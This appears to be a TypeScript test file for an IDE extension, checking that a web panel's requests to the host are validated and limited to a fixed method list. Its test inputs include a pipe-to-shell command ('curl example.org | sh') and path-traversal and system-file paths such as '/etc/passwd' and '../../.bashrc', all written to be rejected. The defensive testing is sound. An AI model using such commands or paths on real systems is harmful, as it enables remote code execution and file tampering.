import assert from 'node:assert/strict';
import { HOST_METHODS, type HostMethods } from '../panel/panel-protocol';
import type { ExtensionHost } from './extension-host';
import { checkedRequests } from './page-requests';

describe('What a page asks of the IDE', () => {
    let done: unknown[][];
    let requests: Record<keyof HostMethods, (...values: unknown[]) => Promise<unknown>>;

    beforeEach(() => {
        done = [];
        const note =
            (name: string) =>
            async (...values: unknown[]): Promise<void> =>
                void done.push([name, ...values]);
        const host = {
            copyText: note('copyText'),
            runExample: note('runExample'),
            askSavePath: note('askSavePath'),
            askOpenPath: note('askOpenPath'),
            canReveal: (path: string): boolean => path.startsWith('/workspace/'),
            revealFile: note('revealFile'),
            saveBytes: note('saveBytes'),
        };
        requests = checkedRequests({
            host: host as unknown as ExtensionHost,
            begin: async () => ({ viewState: null, folders: [] }),
            storeViewState: async (state) => void done.push(['storeViewState', state]),
            reportUnavailable: (actionIds) => void done.push(['reportUnavailable', actionIds]),
            tell: (severity, message) => void done.push(['tell', severity, message]),
        }) as unknown as typeof requests;
    });

    it('is done when it is what it should be', async () => {
        await requests.copyText('text');
        await requests.saveFile('name', new Uint8Array([1]));
        await requests.reportUnavailable(['pause']);
        await requests.tell('fatal', 'message');
        await requests.revealFile('/workspace/checkpoints/a.pt');
        await requests.askSavePath({ title: 'Export', fileName: 'runs.zip', extension: 'zip' });
        assert.deepEqual(done, [
            ['copyText', 'text'],
            ['saveBytes', 'name', new Uint8Array([1])],
            ['reportUnavailable', ['pause']],
            ['tell', 'info', 'message'],
            ['revealFile', '/workspace/checkpoints/a.pt'],
            ['askSavePath', { title: 'Export', fileName: 'runs.zip', extension: 'zip' }],
        ]);
    });

    it('can be to run the example, and no other command', async () => {
        await requests.runExample('curl example.org | sh', '/', 'title');
        assert.deepEqual(done, [['runExample']]);
        assert.deepEqual(
            HOST_METHODS.filter((name) => /terminal/i.test(name)),
            [],
        );
        assert.deepEqual(Object.keys(requests).sort(), [...HOST_METHODS].sort());
    });

    it('names files of the workspace only, and names for files that lead nowhere else', async () => {
        const attempts: [keyof HostMethods, ...unknown[]][] = [
            ['revealFile', '/etc/passwd'],
            ['saveFile', '../../.bashrc', new Uint8Array([1])],
            ['saveFile', 'C:\\autoexec.bat', new Uint8Array([1])],
            ['askSavePath', { title: 'Export', fileName: '..' }],
            ['askSavePath', { title: 'Export', fileName: '/etc/profile.d/x.sh', extension: 'sh' }],
            ['askSavePath', { title: 'Export', fileName: 'x', extension: 'zip/../../x' }],
            ['askOpenPath', { title: 'Open', extensions: ['zip', '*'] }],
        ];
        for (const [method, ...values] of attempts) {
            await assert.rejects(async () => requests[method](...values), /expected/, JSON.stringify(values));
        }
        assert.deepEqual(done, []);
    });

    it('is refused with a sentence when it is anything else', async () => {
        const attempts: [keyof HostMethods, ...unknown[]][] = [
            ['copyText', 1],
            ['copyText'],
            ['revealFile', ['/etc']],
            ['saveFile', 'name', 'no bytes'],
            ['storeViewState', null],
            ['storeViewState', { layout: 'x'.repeat(2_000_000) }],
            ['tell', 'info', 'x'.repeat(100_000)],
            ['reportUnavailable', 'pause'],
            ['reportUnavailable', [1]],
        ];
        for (const [method, ...values] of attempts) {
            await assert.rejects(async () => requests[method](...values), /expected/, method);
        }
        assert.deepEqual(done, []);
    });
});
